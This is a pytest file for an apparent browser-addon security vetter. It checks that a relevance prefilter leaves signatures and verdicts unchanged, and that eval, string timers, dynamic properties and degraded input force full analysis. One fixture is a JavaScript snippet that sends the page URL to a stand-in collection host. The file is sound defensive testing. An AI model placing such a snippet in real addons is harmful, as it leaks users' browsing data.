"""The relevance prefilter's soundness, proven addon-by-addon.

The claim: for every addon, vetting with the prefilter produces exactly
the signature (and verdict) that vetting without it produces —
bit-identical rendered text — because the prefilter only takes the fast
lane when *no* run of the full analysis could emit an entry. These
tests check that equality over the whole benchmark corpus, the whole
examples corpus (single files and extension bundles) and a generated
corpus, under plain parsing, recovery mode, and budget-trip
degradation; plus the individual disqualifiers (dynamic code, dynamic
properties, degraded input) that must force the full pipeline.
"""

from pathlib import Path

import pytest

from repro.addons import CORPUS, AddonSpec
from repro.api import vet
from repro.browser import mozilla_spec
from repro.faults import Budget
from repro.js import parse
from repro.lint.surface import (
    addon_surface,
    decide_relevance,
    spec_surface,
)
from repro.signatures import parse_signature, subsumes

REPO = Path(__file__).resolve().parents[2]
EXAMPLE_FILES = sorted((REPO / "examples" / "addons").glob("*.js"))
#: Extension bundles: each directory with a manifest is one input.
EXTENSION_DIRS = sorted(
    child
    for child in (REPO / "examples" / "extensions").iterdir()
    if child.is_dir() and (child / "manifest.json").exists()
)

pytestmark = pytest.mark.lint

IRRELEVANT = """
var palette = { light: "#fff", dark: "#000" };
function pick(name) {
  if (name == "dark") { return palette.dark; }
  return palette.light;
}
var chosen = pick("light");
"""

RELEVANT = """
var xhr = new XMLHttpRequest();
xhr.open("GET", "http://collect.example.com/" + document.location.href);
xhr.send();
"""


def _identical(source: str, **kwargs) -> None:
    fast = vet(source, prefilter=True, **kwargs)
    slow = vet(source, prefilter=False, **kwargs)
    assert fast.signature.render() == slow.signature.render()
    assert fast.degraded == slow.degraded
    if fast.comparison is not None or slow.comparison is not None:
        assert fast.comparison.verdict == slow.comparison.verdict
        assert fast.comparison.extra == slow.comparison.extra
        assert fast.comparison.missing == slow.comparison.missing


class TestCorpusIdentity:
    """Every benchmark addon: prefilter on == prefilter off."""

    @pytest.mark.parametrize("spec", CORPUS, ids=lambda s: s.name)
    def test_bit_identical_signature_and_verdict(self, spec):
        manual = parse_signature(spec.manual_signature_text)
        extras = (
            frozenset(parse_signature(spec.real_extras_text).entries)
            if spec.real_extras_text
            else frozenset()
        )
        _identical(spec.source(), manual=manual, real_extras=extras)

    @pytest.mark.slow
    def test_bit_identical_generated_corpus(self):
        from repro.corpusgen import generate_corpus

        for addon in generate_corpus(20, seed=13):
            _identical(addon.source)

    @pytest.mark.parametrize("spec", CORPUS, ids=lambda s: s.name)
    def test_corpus_addons_are_never_prefiltered(self, spec):
        # The benchmark corpus is all spec-relevant by construction.
        report = vet(spec.source(), prefilter=True)
        assert not report.prefiltered


def _example_source(path: Path) -> str:
    """An example addon file, or an extension bundle directory as bundle
    text."""
    if path.is_dir():
        from repro.webext.loader import load_source

        return load_source(path)
    return path.read_text(encoding="utf-8")


class TestExamplesIdentity:
    """Every example addon and extension bundle, under recovery mode."""

    @pytest.mark.parametrize(
        "path", EXAMPLE_FILES + EXTENSION_DIRS, ids=lambda p: p.name
    )
    def test_bit_identical_under_recovery(self, path):
        _identical(_example_source(path), recover=True)

    def test_examples_corpus_has_prefilter_hits(self):
        reports = {
            path.name: vet(path.read_text(encoding="utf-8"), recover=True,
                           prefilter=True)
            for path in EXAMPLE_FILES
        }
        hits = [name for name, report in reports.items() if report.prefiltered]
        # shortcut_palette is the resolver's hit: its only dynamism is
        # a provably-constant computed key, so the fast lane needs key
        # resolution to take it.
        assert hits == ["clock_badge.js", "shortcut_palette.js", "ui_theme.js"]
        assert reports["shortcut_palette.js"].counters["resolved_sites"] == 1


class TestDisqualifiers:
    """Each fast-lane disqualifier forces the full pipeline."""

    def test_irrelevant_addon_is_prefiltered(self):
        report = vet(IRRELEVANT, prefilter=True)
        assert report.prefiltered
        assert report.result is None and report.pdg is None
        assert len(report.signature) == 0

    def test_prefiltered_reports_lower_nothing(self):
        from repro.webext.loader import ExtensionBundle

        bundle = ExtensionBundle(
            name="quiet",
            manifest_text=(
                '{"manifest_version": 3, "name": "q", "version": "1",'
                ' "background": {"service_worker": "bg.js"}}'
            ),
            files=(("bg.js", "var palette = { light: 1, dark: 0 };"),),
        )
        for source in (IRRELEVANT, bundle.to_text()):
            report = vet(source, prefilter=True)
            assert report.prefiltered
            assert report.program is None

    def test_relevant_addon_is_not_prefiltered(self):
        assert not vet(RELEVANT, prefilter=True).prefiltered

    def test_dynamic_code_disqualifies(self):
        # Irrelevant surface + eval: no fast lane, ever.
        source = IRRELEVANT + "\neval('anything');"
        report = vet(source, prefilter=True)
        assert not report.prefiltered
        decision = decide_relevance([parse(source)], mozilla_spec())
        assert decision.reason == "dynamic-code"

    def test_aliased_eval_disqualifies(self):
        source = IRRELEVANT + "\nvar e = eval;"
        decision = decide_relevance([parse(source)], mozilla_spec())
        assert decision.relevant and decision.reason == "dynamic-code"

    def test_string_timer_disqualifies(self):
        source = IRRELEVANT + "\nsetTimeout('tick()', 50);"
        decision = decide_relevance([parse(source)], mozilla_spec())
        assert decision.relevant and decision.reason == "dynamic-code"

    def test_dynamic_properties_disqualify(self):
        source = IRRELEVANT + "\nvar w = whatever[pick('dark')];"
        decision = decide_relevance([parse(source)], mozilla_spec())
        assert decision.relevant and decision.reason == "dynamic-properties"

    def test_degraded_input_disqualifies(self):
        decision = decide_relevance(
            [parse(IRRELEVANT)], mozilla_spec(), degraded=True
        )
        assert decision.relevant and decision.reason == "degraded-input"

    def test_recovery_skips_force_full_analysis(self):
        # An otherwise-irrelevant addon with an unparseable statement:
        # the skipped statement could have been anything, so no fast lane.
        source = IRRELEVANT + "\nwith (palette) { light = dark; }"
        report = vet(source, recover=True, prefilter=True)
        assert not report.prefiltered
        assert report.degraded

    def test_spec_overlap_reports_the_shared_names(self):
        decision = decide_relevance([parse(RELEVANT)], mozilla_spec())
        assert decision.reason == "surface-overlap"
        assert {"open", "send"} <= decision.overlap


class TestBudgetDegradation:
    """Prefilter composes soundly with budget-trip ⊤-widening."""

    def test_relevant_addon_identical_under_tiny_budget(self):
        # Both lanes run the full (degrading) pipeline: identical.
        _identical(RELEVANT, budget=Budget(max_steps=5))

    def test_irrelevant_addon_empty_below_degraded_top(self):
        # Without the prefilter a tiny budget trips and ⊤-widens; with
        # it, the interpreter never runs, so nothing trips and the empty
        # signature stands. Soundness here is subsumption, not equality:
        # the degraded ⊤ must cover the (exact) empty signature.
        fast = vet(IRRELEVANT, prefilter=True, budget=Budget(max_steps=2))
        slow = vet(IRRELEVANT, prefilter=False, budget=Budget(max_steps=2))
        assert fast.prefiltered and not fast.degraded
        assert slow.degraded
        assert subsumes(slow.signature, fast.signature)
        # And the prefiltered answer equals the un-budgeted exact one.
        exact = vet(IRRELEVANT, prefilter=False)
        assert fast.signature.render() == exact.signature.render()

    @pytest.mark.parametrize(
        "addon",
        list(CORPUS) + EXAMPLE_FILES + EXTENSION_DIRS,
        ids=lambda a: a.name,
    )
    def test_tiny_budget_arms_subsume_the_exact_signature(self, addon):
        # Every addon: the two lanes need not trip at the same step, so
        # each degraded arm must cover the exact signature.
        source = (
            addon.source() if isinstance(addon, AddonSpec)
            else _example_source(addon)
        )
        exact = vet(source, recover=True).signature
        for max_steps in (2, 5, 20, 100):
            for prefilter in (True, False):
                arm = vet(source, recover=True, prefilter=prefilter,
                          budget=Budget(max_steps=max_steps))
                assert subsumes(arm.signature, exact), max_steps


class TestSurfaceApproximation:
    """The surface walk over-approximates every naming construct."""

    def test_identifiers_and_properties_collected(self):
        surface = addon_surface(parse("var a = obj.prop; thing(a);"))
        assert {"a", "obj", "prop", "thing"} <= surface.names

    def test_literal_computed_key_collected_statically(self):
        surface = addon_surface(parse("var v = box['lid'];"))
        assert "lid" in surface.names
        assert not surface.dynamic_properties

    def test_declarations_params_and_object_keys_collected(self):
        source = "function f(arg) { var local = 1; } var o = { key2: 3 };"
        surface = addon_surface(parse(source))
        assert {"f", "arg", "local", "o", "key2"} <= surface.names

    def test_spec_surface_covers_mozilla_spec(self):
        names = spec_surface(mozilla_spec())
        # Sources, sinks, and APIs all contribute.
        assert {"href", "keyCode", "send", "open", "eval",
                "loadSubScript"} <= names
